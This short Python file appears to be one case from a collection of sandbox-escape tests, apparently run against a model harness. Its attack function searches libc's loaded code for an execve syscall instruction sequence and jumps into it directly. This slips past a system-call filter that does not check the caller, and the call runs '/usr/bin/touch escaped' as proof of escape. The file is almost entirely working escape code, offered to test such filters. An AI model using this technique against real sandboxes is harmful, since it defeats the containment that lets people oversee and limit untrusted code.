"""Class: machine code. Source: own find. Escape: a system call made from the middle of a function:
the filter asks not who calls. Teeth: none, where the bytes stand differs between C libraries.
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    start = ctypes.cast(libc.labs, ctypes.c_void_p).value & ~4095
    code = ctypes.string_at(start, 1 << 20)
    at = code.find(b"\xb8\x3b\x00\x00\x00\x0f\x05")  # mov eax, 59; syscall
    arguments = (ctypes.c_char_p * 3)(b"touch", b"escaped", None)
    if at >= 0:
        ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_void_p, ctypes.c_void_p)(
            start + at
        )(b"/usr/bin/touch", ctypes.addressof(arguments), None)
